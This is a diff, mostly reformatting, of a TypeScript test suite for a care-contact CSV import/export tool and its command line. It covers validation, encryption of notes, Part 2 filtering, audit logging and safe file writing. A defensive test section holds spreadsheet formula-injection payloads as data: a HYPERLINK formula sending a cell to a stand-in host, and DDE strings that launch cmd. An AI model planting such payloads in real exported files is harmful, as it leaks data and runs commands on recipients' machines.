@@ -4,7 +4,18 @@
 // imports back as the same contacts, and the command line itself.
 import { execFile } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
-import { chmodSync, linkSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  linkSync,
+  lstatSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
@@ -95,7 +106,9 @@ const deps = () => ({ db: env.db, prisma: env.db.prisma, keyring, directory });
 const run = (program: ProgramConfig, csv: string, now = NOW) => importContacts(deps(), { program, csv, now });
 
 /** A contact as the form hands it to logContact: a new client, nothing optional filled in. */
-function contactInput(over: Partial<Parameters<typeof logContact>[1]['input']>): Parameters<typeof logContact>[1]['input'] {
+function contactInput(
+  over: Partial<Parameters<typeof logContact>[1]['input']>,
+): Parameters<typeof logContact>[1]['input'] {
   return {
     client: { kind: 'new', sex: 'female', ageBand: '25-59' },
     occurredAt: new Date('2024-09-01T14:00:00Z'),
@@ -124,18 +137,30 @@ afterAll(async () => {
   await env?.cleanup();
 });
 beforeEach(async () => {
-  await env.db.sql.exec('TRUNCATE "AuditEvent", "Nudge", "FollowUp", "Contact", "Client", "Member", "Program" RESTART IDENTITY CASCADE');
+  await env.db.sql.exec(
+    'TRUNCATE "AuditEvent", "Nudge", "FollowUp", "Contact", "Client", "Member", "Program" RESTART IDENTITY CASCADE',
+  );
   directory = await syncPrograms(env.db.prisma, programs);
 });
 
 describe('import', () => {
   it('writes clients, contacts, follow-ups, counters, encrypted notes and the audit trail', async () => {
     const summary = ok(await run(wilmington, GOOD));
-    expect(summary).toMatchObject({ rows: 5, contactsCreated: 5, clientsCreated: 3, followUpsCreated: 1, contactsAlreadyImported: 0, contactNumbers: { first: 1, last: 5 } });
+    expect(summary).toMatchObject({
+      rows: 5,
+      contactsCreated: 5,
+      clientsCreated: 3,
+      followUpsCreated: 1,
+      contactsAlreadyImported: 0,
+      contactNumbers: { first: 1, last: 5 },
+    });
     // The follow-up of 3 July is met by the contact of 5 July.
     expect(summary.followUpsMet).toBe(1);
 
-    const clients = await env.db.prisma.client.findMany({ where: { programId: 'wilmington' }, orderBy: { number: 'asc' } });
+    const clients = await env.db.prisma.client.findMany({
+      where: { programId: 'wilmington' },
+      orderBy: { number: 'asc' },
+    });
     expect(clients.map((c) => [c.code, c.number, c.sex, c.ageBand])).toEqual([
       ['PIC-0001', 1, 'female', '25-59'],
       ['PIC-0002', 2, 'male', '18-24'],
@@ -150,13 +175,22 @@ describe('import', () => {
     const program = await env.db.prisma.program.findUniqueOrThrow({ where: { id: 'wilmington' } });
     expect([program.nextClientNumber, program.nextContactNumber]).toEqual([41, 6]);
 
-    const contacts = await env.db.prisma.contact.findMany({ where: { programId: 'wilmington' }, orderBy: { number: 'asc' } });
+    const contacts = await env.db.prisma.contact.findMany({
+      where: { programId: 'wilmington' },
+      orderBy: { number: 'asc' },
+    });
     expect(contacts.map((c) => c.number)).toEqual([1, 2, 3, 4, 5]);
     expect(contacts.every((c) => c.authorId === null && c.idempotencyKey.startsWith('import:'))).toBe(true);
-    expect(contacts[0]).toMatchObject({ services: ['crisis_services', 'de_escalation'], referrals: ['mental_health_treatment'], followUpWanted: true });
+    expect(contacts[0]).toMatchObject({
+      services: ['crisis_services', 'de_escalation'],
+      referrals: ['mental_health_treatment'],
+      followUpWanted: true,
+    });
     expect(contacts[1]).toMatchObject({ services: [], referrals: [], followUpWanted: false, notesCiphertext: null });
     expect(contacts[0]!.notesCiphertext).not.toContain('CANARY');
-    expect(openNotes(keyring, { programId: 'wilmington', contactId: contacts[0]!.id }, contacts[0]!.notesCiphertext!)).toBe(NOTES);
+    expect(
+      openNotes(keyring, { programId: 'wilmington', contactId: contacts[0]!.id }, contacts[0]!.notesCiphertext!),
+    ).toBe(NOTES);
     expect(contacts[0]!.notesKeyId).toBe(keyring.currentKeyId);
 
     const [followUp] = await env.db.prisma.followUp.findMany();
@@ -172,9 +206,16 @@ describe('import', () => {
 
     const audit = await env.db.prisma.auditEvent.findMany({ orderBy: { id: 'asc' } });
     const count = (action: string) => audit.filter((a) => a.action === action).length;
-    expect([count('client.create'), count('contact.create'), count('followup.create'), count('followup.complete')]).toEqual([3, 5, 1, 1]);
+    expect([
+      count('client.create'),
+      count('contact.create'),
+      count('followup.create'),
+      count('followup.complete'),
+    ]).toEqual([3, 5, 1, 1]);
     expect(audit.every((a) => a.actorId === null && a.programId === 'wilmington')).toBe(true);
-    expect(new Set(audit.filter((a) => a.action === 'contact.create').map((a) => a.entityId))).toEqual(new Set(contacts.map((c) => c.id)));
+    expect(new Set(audit.filter((a) => a.action === 'contact.create').map((a) => a.entityId))).toEqual(
+      new Set(contacts.map((c) => c.id)),
+    );
   });
 
   it('reports every bad row by line and column, and writes nothing', async () => {
@@ -193,7 +234,11 @@ describe('import', () => {
     expect(r.ok).toBe(false);
     const errors = r.ok ? [] : r.errors;
     expect(errors).toEqual([
-      { line: 2, column: 'source', message: expect.stringMatching(/^"calls" is not one of call_for_service, proactive_outreach, .*, other$/) },
+      {
+        line: 2,
+        column: 'source',
+        message: expect.stringMatching(/^"calls" is not one of call_for_service, proactive_outreach, .*, other$/),
+      },
       { line: 3, column: 'client_code', message: '"XYZ-0002" is not a client code of this program (such as PIC-0042)' },
       { line: 3, column: 'services', message: expect.stringMatching(/^"hugs" is not one of crisis_services, /) },
       { line: 3, column: 'services', message: expect.stringMatching(/^"naps" is not one of /) },
@@ -220,7 +265,12 @@ describe('import', () => {
         'PIC-0009,2024-07-03,call_for_service,,,resolved_on_scene,male,18-24,,', // too late
       ].join('\n'),
     );
-    expect(r).toEqual({ ok: false, errors: [{ line: 3, column: 'age_band', message: 'is required for a new client (PIC-0009 is first seen on this line)' }] });
+    expect(r).toEqual({
+      ok: false,
+      errors: [
+        { line: 3, column: 'age_band', message: 'is required for a new client (PIC-0009 is first seen on this line)' },
+      ],
+    });
   });
 
   it('never quotes free text back in an error: a name or a note in the wrong column, a file without its header', async () => {
@@ -229,19 +279,41 @@ describe('import', () => {
     const header = 'client_code,contact_date,source,services,disposition,sex,age_band,follow_up_date';
     const wrong = await run(
       wilmington,
-      [header, `${NAME},2024-07-01,${NAME},crisis_services;${NAME},resolved_on_scene,${NAME},25-59,${NOTE}`, `PIC-0002,${NOTE},Jane,,resolved_on_scene,male,${NOTE},`].join('\n'),
+      [
+        header,
+        `${NAME},2024-07-01,${NAME},crisis_services;${NAME},resolved_on_scene,${NAME},25-59,${NOTE}`,
+        `PIC-0002,${NOTE},Jane,,resolved_on_scene,male,${NOTE},`,
+      ].join('\n'),
     );
-    const noHeader = await run(wilmington, `PIC-0001,2024-07-01,call_for_service,crisis_services,resolved_on_scene,female,25-59,"${NOTE}"\n`);
+    const noHeader = await run(
+      wilmington,
+      `PIC-0001,2024-07-01,call_for_service,crisis_services,resolved_on_scene,female,25-59,"${NOTE}"\n`,
+    );
     const errors = [...(wrong.ok ? [] : wrong.errors), ...(noHeader.ok ? [] : noHeader.errors)];
     // Header cells are named only when written like column names; the rest go by position.
     expect(errors.map((e) => e.column)).toEqual([
       ...['client_code', 'source', 'services', 'sex', 'follow_up_date', 'contact_date', 'source', 'age_band'],
-      ...['#1', '#2', 'call_for_service', 'crisis_services', 'resolved_on_scene', 'female', '#7', '#8', 'client_code', 'contact_date', 'source', 'disposition'],
+      ...[
+        '#1',
+        '#2',
+        'call_for_service',
+        'crisis_services',
+        'resolved_on_scene',
+        'female',
+        '#7',
+        '#8',
+        'client_code',
+        'contact_date',
+        'source',
+        'disposition',
+      ],
     ]);
     expect(JSON.stringify(errors)).not.toMatch(/jane|roe|voices/i);
     // A key-shaped typo is still shown, so it can be found.
     const typo = await run(wilmington, `${header}\nPIC-0001,2024-07-01,calls,,resolved_on_scene,female,25-59,\n`);
-    expect(typo.ok ? [] : typo.errors.map((e) => e.message)).toEqual([expect.stringMatching(/^"calls" is not one of /)]);
+    expect(typo.ok ? [] : typo.errors.map((e) => e.message)).toEqual([
+      expect.stringMatching(/^"calls" is not one of /),
+    ]);
   });
 
   it('refuses a header with a misspelt or missing column', async () => {
@@ -257,12 +329,21 @@ describe('import', () => {
     const before = await env.db.prisma.program.findUniqueOrThrow({ where: { id: 'wilmington' } });
     const auditBefore = await env.db.prisma.auditEvent.count();
     const again = ok(await run(wilmington, GOOD));
-    expect(again).toMatchObject({ contactsCreated: 0, clientsCreated: 0, followUpsCreated: 0, contactsAlreadyImported: 5, contactNumbers: null });
+    expect(again).toMatchObject({
+      contactsCreated: 0,
+      clientsCreated: 0,
+      followUpsCreated: 0,
+      contactsAlreadyImported: 5,
+      contactNumbers: null,
+    });
     expect(await env.db.prisma.contact.count()).toBe(5);
     expect(await env.db.prisma.followUp.count()).toBe(1);
     expect(await env.db.prisma.auditEvent.count()).toBe(auditBefore);
     const after = await env.db.prisma.program.findUniqueOrThrow({ where: { id: 'wilmington' } });
-    expect([after.nextClientNumber, after.nextContactNumber]).toEqual([before.nextClientNumber, before.nextContactNumber]);
+    expect([after.nextClientNumber, after.nextContactNumber]).toEqual([
+      before.nextClientNumber,
+      before.nextContactNumber,
+    ]);
     // Lines repeated within one file count once too.
     const doubled = ok(await run(copy, `${GOOD}\r\n${GOOD.split('\r\n')[2]}\r\n`));
     expect([doubled.contactsCreated, doubled.duplicateRows]).toEqual([5, 1]);
@@ -273,13 +354,35 @@ describe('import', () => {
     ok(
       await run(
         pacific,
-        [HEADER, 'DOV-0001,2024-10-01,call_for_service,,,resolved_on_scene,male,25-59,,', 'DOV-0002,2024-09-30,call_for_service,,,resolved_on_scene,male,25-59,,'].join('\n'),
+        [
+          HEADER,
+          'DOV-0001,2024-10-01,call_for_service,,,resolved_on_scene,male,25-59,,',
+          'DOV-0002,2024-09-30,call_for_service,,,resolved_on_scene,male,25-59,,',
+        ].join('\n'),
       ),
     );
-    const contacts = await env.db.prisma.contact.findMany({ where: { programId: 'pacific' }, orderBy: { number: 'asc' } });
-    expect(contacts.map((c) => c.occurredAt.toISOString())).toEqual(['2024-10-01T19:00:00.000Z', '2024-09-30T19:00:00.000Z']);
-    const q3 = await exportContacts(deps(), { program: pacific, from: '2024-07-01', to: '2024-09-30', includeNotes: false, actor: ACTOR });
-    const q4 = await exportContacts(deps(), { program: pacific, from: '2024-10-01', to: '2024-12-31', includeNotes: false, actor: ACTOR });
+    const contacts = await env.db.prisma.contact.findMany({
+      where: { programId: 'pacific' },
+      orderBy: { number: 'asc' },
+    });
+    expect(contacts.map((c) => c.occurredAt.toISOString())).toEqual([
+      '2024-10-01T19:00:00.000Z',
+      '2024-09-30T19:00:00.000Z',
+    ]);
+    const q3 = await exportContacts(deps(), {
+      program: pacific,
+      from: '2024-07-01',
+      to: '2024-09-30',
+      includeNotes: false,
+      actor: ACTOR,
+    });
+    const q4 = await exportContacts(deps(), {
+      program: pacific,
+      from: '2024-10-01',
+      to: '2024-12-31',
+      includeNotes: false,
+      actor: ACTOR,
+    });
     expect(q3.rows.map((r) => r[1])).toEqual(['DOV-0002']);
     expect(q4.rows.map((r) => r[1])).toEqual(['DOV-0001']);
     expect(q4.rows[0]![2]).toBe('2024-10-01T12:00-07:00');
@@ -294,7 +397,14 @@ describe('import', () => {
       input: contactInput({}),
     });
     expect([logged.clientCode, logged.contactNumber]).toEqual(['PIC-0001', 1]);
-    ok(await run(wilmington, [HEADER, 'PIC-0001,2024-06-01,other,,,other,male,0-12,,', 'PIC-0900,2024-06-02,other,,,other,male,0-12,,'].join('\n')));
+    ok(
+      await run(
+        wilmington,
+        [HEADER, 'PIC-0001,2024-06-01,other,,,other,male,0-12,,', 'PIC-0900,2024-06-02,other,,,other,male,0-12,,'].join(
+          '\n',
+        ),
+      ),
+    );
     const first = await env.db.prisma.client.findFirstOrThrow({ where: { programId: 'wilmington', number: 1 } });
     expect(first).toMatchObject({ sex: 'female', firstContactAt: new Date('2024-06-01T16:00:00Z') });
     const p = await env.db.prisma.program.findUniqueOrThrow({ where: { id: 'wilmington' } });
@@ -315,9 +425,25 @@ describe('export', () => {
     const copied = contactExportCsv(await exportContacts(deps(), { program: copy, ...all }));
     expect(copied).toBe(original);
 
-    const fields = ['number', 'occurredAt', 'source', 'services', 'referrals', 'disposition', 'followUpDate', 'incidentRef', 'minutesOnScene'] as const;
+    const fields = [
+      'number',
+      'occurredAt',
+      'source',
+      'services',
+      'referrals',
+      'disposition',
+      'followUpDate',
+      'incidentRef',
+      'minutesOnScene',
+    ] as const;
     const view = async (programId: string) =>
-      (await env.db.prisma.contact.findMany({ where: { programId }, orderBy: { number: 'asc' }, include: { client: true, followUps: true } })).map((c) => ({
+      (
+        await env.db.prisma.contact.findMany({
+          where: { programId },
+          orderBy: { number: 'asc' },
+          include: { client: true, followUps: true },
+        })
+      ).map((c) => ({
         ...Object.fromEntries(fields.map((f) => [f, c[f]])),
         client: [c.client.code, c.client.sex, c.client.ageBand, c.client.firstContactAt.toISOString()],
         notes: c.notesCiphertext && openNotes(keyring, { programId, contactId: c.id }, c.notesCiphertext),
@@ -334,7 +460,10 @@ describe('export', () => {
       author: clinician,
       idempotencyKey: 'view-2',
       input: {
-        client: { kind: 'existing', clientId: (await env.db.prisma.client.findFirstOrThrow({ where: { number: 40 } })).id },
+        client: {
+          kind: 'existing',
+          clientId: (await env.db.prisma.client.findFirstOrThrow({ where: { number: 40 } })).id,
+        },
         occurredAt: new Date('2024-10-02T15:00:00Z'),
         source: 'other',
         services: [],
@@ -347,7 +476,15 @@ describe('export', () => {
         notes: null,
       },
     });
-    const csv = contactExportCsv(await exportContacts(deps(), { program: wilmington, from: '2024-03-01', to: '2024-12-31', includeNotes: true, actor: ACTOR }));
+    const csv = contactExportCsv(
+      await exportContacts(deps(), {
+        program: wilmington,
+        from: '2024-03-01',
+        to: '2024-12-31',
+        includeNotes: true,
+        actor: ACTOR,
+      }),
+    );
     expect(csv).toContain(',CAD-1,12,');
     const again = ok(await run(wilmington, csv));
     expect([again.contactsCreated, again.contactsAlreadyImported]).toEqual([0, 6]);
@@ -393,9 +530,18 @@ describe('42 CFR Part 2 in the export', () => {
 
     const part2 = await exportContacts(deps(), { program: wilmington, ...range, includePart2: true });
     const withPart2 = contactExportCsv(part2);
-    expect(part2.rows.map((r) => r[referrals])).toEqual(['addiction_treatment;social_services', 'addiction_treatment', '']);
-    expect(withPart2.split('\r\n')[0]).toBe('# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records.');
-    expect(JSON.parse(contactExportJson(part2))).toMatchObject({ notice: PART2_NOTICE, contacts: [{ referrals: 'addiction_treatment;social_services' }, {}, {}] });
+    expect(part2.rows.map((r) => r[referrals])).toEqual([
+      'addiction_treatment;social_services',
+      'addiction_treatment',
+      '',
+    ]);
+    expect(withPart2.split('\r\n')[0]).toBe(
+      '# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records.',
+    );
+    expect(JSON.parse(contactExportJson(part2))).toMatchObject({
+      notice: PART2_NOTICE,
+      contacts: [{ referrals: 'addiction_treatment;social_services' }, {}, {}],
+    });
     expect(Array.isArray(JSON.parse(contactExportJson(plain)))).toBe(true);
 
     const audit = await env.db.prisma.auditEvent.findMany({ where: { entityType: 'program' }, orderBy: { id: 'asc' } });
@@ -424,8 +570,8 @@ describe('formula-like cells in the export', () => {
   const NOTES = [
     '=HYPERLINK("https://x.example/?"&B2,"click")',
     '+1+1',
-    '-2+3+cmd|\' /C calc\'!A0',
-    '@SUM(1+9)*cmd|\' /C calc\'!A0',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
     '\t=1+1',
     '\r=1+1, then left',
     "'=1+1 (typed with the quote)",
@@ -463,9 +609,20 @@ describe('formula-like cells in the export', () => {
 
     expect(ok(await run(sheetsCopy, original))).toMatchObject({ contactsCreated: NOTES.length });
     expect(contactExportCsv(await exportContacts(deps(), { program: sheetsCopy, ...all }))).toBe(original);
-    const stored = await env.db.prisma.contact.findMany({ where: { programId: 'sheets_copy' }, orderBy: { number: 'asc' } });
-    expect(stored.map((c) => openNotes(keyring, { programId: 'sheets_copy', contactId: c.id }, c.notesCiphertext!))).toEqual(NOTES);
-    expect(stored.map((c) => [c.source, c.services, c.incidentRef])).toEqual(NOTES.map((_, i) => [i % 2 ? '-walk_in' : 'other', i % 2 ? ['+extra', 'crisis_services'] : ['crisis_services', '+extra'], `CAD-2024/${i}.#${i}`]));
+    const stored = await env.db.prisma.contact.findMany({
+      where: { programId: 'sheets_copy' },
+      orderBy: { number: 'asc' },
+    });
+    expect(
+      stored.map((c) => openNotes(keyring, { programId: 'sheets_copy', contactId: c.id }, c.notesCiphertext!)),
+    ).toEqual(NOTES);
+    expect(stored.map((c) => [c.source, c.services, c.incidentRef])).toEqual(
+      NOTES.map((_, i) => [
+        i % 2 ? '-walk_in' : 'other',
+        i % 2 ? ['+extra', 'crisis_services'] : ['crisis_services', '+extra'],
+        `CAD-2024/${i}.#${i}`,
+      ]),
+    );
   });
 
   it('drop a program’s own Part 2 services too, unless asked', async () => {
@@ -474,12 +631,19 @@ describe('formula-like cells in the export', () => {
       program: sheets,
       author,
       idempotencyKey: 'view-sud',
-      input: contactInput({ occurredAt: new Date('2024-07-01T15:00:00Z'), source: 'other', services: ['sud_counselling', '+extra'] }),
+      input: contactInput({
+        occurredAt: new Date('2024-07-01T15:00:00Z'),
+        source: 'other',
+        services: ['sud_counselling', '+extra'],
+      }),
     });
     const range = { from: '2024-07-01', to: '2024-07-31', includeNotes: false, actor: ACTOR };
-    const services = (e: { columns: string[]; rows: string[][] }) => e.rows.map((r) => r[e.columns.indexOf('services')]);
+    const services = (e: { columns: string[]; rows: string[][] }) =>
+      e.rows.map((r) => r[e.columns.indexOf('services')]);
     expect(services(await exportContacts(deps(), { program: sheets, ...range }))).toEqual(['+extra']);
-    expect(services(await exportContacts(deps(), { program: sheets, ...range, includePart2: true }))).toEqual(['sud_counselling;+extra']);
+    expect(services(await exportContacts(deps(), { program: sheets, ...range, includePart2: true }))).toEqual([
+      'sud_counselling;+extra',
+    ]);
   });
 });
 
@@ -492,8 +656,14 @@ describe('on the embedded database', () => {
       await db.migrate();
       const dir2 = await syncPrograms(db.prisma, [wilmington]);
       const embedded = { db, prisma: db.prisma, keyring, directory: dir2 };
-      expect(ok(await importContacts(embedded, { program: wilmington, csv: GOOD, now: NOW }))).toMatchObject({ contactsCreated: 5, clientsCreated: 3 });
-      expect(ok(await importContacts(embedded, { program: wilmington, csv: GOOD, now: NOW }))).toMatchObject({ contactsCreated: 0, contactsAlreadyImported: 5 });
+      expect(ok(await importContacts(embedded, { program: wilmington, csv: GOOD, now: NOW }))).toMatchObject({
+        contactsCreated: 5,
+        clientsCreated: 3,
+      });
+      expect(ok(await importContacts(embedded, { program: wilmington, csv: GOOD, now: NOW }))).toMatchObject({
+        contactsCreated: 0,
+        contactsAlreadyImported: 5,
+      });
       const all = { program: wilmington, from: '2024-03-01', to: '2024-12-31', includeNotes: true, actor: ACTOR };
       const there = contactExportCsv(await exportContacts(embedded, all));
       ok(await run(wilmington, GOOD));
@@ -512,16 +682,27 @@ describe('the command line', { timeout: 120_000 }, () => {
   let dir: string;
   let cliEnv: NodeJS.ProcessEnv;
   const cli = (...args: string[]) =>
-    exec(process.execPath, ['--import', 'tsx', 'src/cli.ts', ...args], { env: cliEnv, cwd: process.cwd(), maxBuffer: 16 * 2 ** 20 }).then(
+    exec(process.execPath, ['--import', 'tsx', 'src/cli.ts', ...args], {
+      env: cliEnv,
+      cwd: process.cwd(),
+      maxBuffer: 16 * 2 ** 20,
+    }).then(
       (r) => ({ code: 0, stdout: r.stdout, stderr: r.stderr }),
-      (err: { code: number; stdout: string; stderr: string }) => ({ code: err.code, stdout: err.stdout, stderr: err.stderr }),
+      (err: { code: number; stdout: string; stderr: string }) => ({
+        code: err.code,
+        stdout: err.stdout,
+        stderr: err.stderr,
+      }),
     );
 
   beforeAll(() => {
     dir = mkdtempSync(path.join(os.tmpdir(), 'carelog-csv-cli-'));
     writeFileSync(path.join(dir, 'carelog.yml'), PROGRAMS_YAML);
     writeFileSync(path.join(dir, 'good.csv'), `\uFEFF${GOOD}\r\n`);
-    writeFileSync(path.join(dir, 'bad.csv'), `${HEADER}\nPIC-0001,2024-07-01,calls,,,resolved_on_scene,female,25-59,,\n`);
+    writeFileSync(
+      path.join(dir, 'bad.csv'),
+      `${HEADER}\nPIC-0001,2024-07-01,calls,,,resolved_on_scene,female,25-59,,\n`,
+    );
     cliEnv = {
       PATH: process.env.PATH,
       NODE_ENV: 'test',
@@ -541,13 +722,18 @@ describe('the command line', { timeout: 120_000 }, () => {
     expect(r.code).toBe(0);
     expect(JSON.parse(r.stdout)).toMatchObject({ ok: true, summary: { contactsCreated: 5, clientsCreated: 3 } });
     const contact = await env.db.prisma.contact.findFirstOrThrow({ where: { programId: 'wilmington', number: 1 } });
-    expect(openNotes(keyring, { programId: 'wilmington', contactId: contact.id }, contact.notesCiphertext!)).toBe(NOTES);
+    expect(openNotes(keyring, { programId: 'wilmington', contactId: contact.id }, contact.notesCiphertext!)).toBe(
+      NOTES,
+    );
   });
 
   it('fails a bad file with exit code 1: errors in the JSON document, or on stderr', async () => {
     const json = await cli('import', '--program', 'wilmington', '--file', path.join(dir, 'bad.csv'), '--json');
     expect(json.code).toBe(1);
-    expect(JSON.parse(json.stdout)).toEqual({ ok: false, errors: [{ line: 2, column: 'source', message: expect.stringContaining('"calls" is not one of') }] });
+    expect(JSON.parse(json.stdout)).toEqual({
+      ok: false,
+      errors: [{ line: 2, column: 'source', message: expect.stringContaining('"calls" is not one of') }],
+    });
     const text = await cli('import', '--program', 'wilmington', '--file', path.join(dir, 'bad.csv'));
     expect(text.code).toBe(1);
     expect(text.stdout).toBe('');
@@ -560,9 +746,20 @@ describe('the command line', { timeout: 120_000 }, () => {
     await cli('import', '--program', 'wilmington', '--file', path.join(dir, 'good.csv'));
     const plain = await cli('export', '--program', 'wilmington', '--from', '2024-07-01', '--to', '2024-09-30');
     expect(plain.code).toBe(0);
-    expect(plain.stdout.split('\r\n')[0]).toBe('contact_number,client_code,contact_date,source,services,referrals,disposition,sex,age_band,incident_ref,minutes_on_scene,follow_up_date');
+    expect(plain.stdout.split('\r\n')[0]).toBe(
+      'contact_number,client_code,contact_date,source,services,referrals,disposition,sex,age_band,incident_ref,minutes_on_scene,follow_up_date',
+    );
     expect(plain.stdout).not.toContain('CANARY');
-    const notes = await cli('export', '--program', 'wilmington', '--from', '2024-07-01', '--to', '2024-09-30', '--include-notes');
+    const notes = await cli(
+      'export',
+      '--program',
+      'wilmington',
+      '--from',
+      '2024-07-01',
+      '--to',
+      '2024-09-30',
+      '--include-notes',
+    );
     expect(notes.stdout).toContain('CANARY');
     const bad = await cli('export', '--program', 'wilmington', '--from', '2024-09-31', '--to', '2024-10-01');
     expect([bad.code, bad.stderr]).toEqual([2, 'carelog export: --from must be a date such as 2024-09-30\n']);
@@ -570,8 +767,13 @@ describe('the command line', { timeout: 120_000 }, () => {
 
   it('writes --out only as a new private file, never through a link, and names who ran it', async () => {
     ok(await run(wilmington, GOOD));
-    const exportTo = (...args: string[]) => cli('export', '--program', 'wilmington', '--from', '2024-07-01', '--to', '2024-09-30', ...args);
-    const exports = () => env.db.prisma.auditEvent.findMany({ where: { action: { startsWith: 'contact.export' } }, orderBy: { id: 'asc' } });
+    const exportTo = (...args: string[]) =>
+      cli('export', '--program', 'wilmington', '--from', '2024-07-01', '--to', '2024-09-30', ...args);
+    const exports = () =>
+      env.db.prisma.auditEvent.findMany({
+        where: { action: { startsWith: 'contact.export' } },
+        orderBy: { id: 'asc' },
+      });
     const me = { osUser: os.userInfo().username, host: os.hostname() };
 
     // A new file: 0600, audited with the roster member --actor names and the account that ran it.
@@ -580,16 +782,27 @@ describe('the command line', { timeout: 120_000 }, () => {
     expect([made.code, made.stderr]).toEqual([0, `exported 5 contact(s) to ${file}\n`]);
     expect(statSync(file).mode & 0o777).toBe(0o600);
     expect((await exports()).map((a) => [a.action, a.actorId, a.details])).toEqual([
-      ['contact.export', directory.member('wilmington', 'slack', 'U0CLIN1')!.memberId, { ...me, actor: 'U0CLIN1', notes: false, part2: false }],
+      [
+        'contact.export',
+        directory.member('wilmington', 'slack', 'U0CLIN1')!.memberId,
+        { ...me, actor: 'U0CLIN1', notes: false, part2: false },
+      ],
     ]);
 
     // An existing file, or a link (even with --force): one line saying what to do, exit 1, nothing written.
     writeFileSync(path.join(dir, 'target.csv'), 'keep');
     symlinkSync(path.join(dir, 'target.csv'), path.join(dir, 'link.csv'));
     const exists = await exportTo('--out', file);
-    expect([exists.code, exists.stdout, exists.stderr]).toEqual([1, '', `carelog export: ${file} already exists: name a new file, or add --force to replace it\n`]);
+    expect([exists.code, exists.stdout, exists.stderr]).toEqual([
+      1,
+      '',
+      `carelog export: ${file} already exists: name a new file, or add --force to replace it\n`,
+    ]);
     const viaLink = await exportTo('--out', path.join(dir, 'link.csv'), '--force');
-    expect([viaLink.code, viaLink.stderr]).toEqual([1, `carelog export: ${path.join(dir, 'link.csv')} is a symbolic link: name the file itself (carelog never writes through a link)\n`]);
+    expect([viaLink.code, viaLink.stderr]).toEqual([
+      1,
+      `carelog export: ${path.join(dir, 'link.csv')} is a symbolic link: name the file itself (carelog never writes through a link)\n`,
+    ]);
     expect(readFileSync(path.join(dir, 'target.csv'), 'utf8')).toBe('keep');
     expect(lstatSync(path.join(dir, 'link.csv')).isSymbolicLink()).toBe(true);
     const badActor = await exportTo('--out', path.join(dir, 'never.csv'), '--actor', '<script>');
@@ -606,10 +819,16 @@ describe('the command line', { timeout: 120_000 }, () => {
     const forced = await exportTo('--out', old, '--force', '--include-part2');
     expect(forced.code).toBe(0);
     expect(statSync(old).mode & 0o777).toBe(0o600);
-    expect(readFileSync(old, 'utf8')).toMatch(/^# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records\.\r\ncontact_number,/);
+    expect(readFileSync(old, 'utf8')).toMatch(
+      /^# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records\.\r\ncontact_number,/,
+    );
     expect(readFileSync(path.join(dir, 'old-link.csv'), 'utf8')).toBe('old');
     expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
-    expect((await exports()).at(-1)).toMatchObject({ action: 'contact.export_part2', actorId: null, details: { ...me, actor: null, part2: true } });
+    expect((await exports()).at(-1)).toMatchObject({
+      action: 'contact.export_part2',
+      actorId: null,
+      details: { ...me, actor: null, part2: true },
+    });
 
     // The file with its notice imports back.
     const back = await cli('import', '--program', 'copy', '--file', old, '--json');
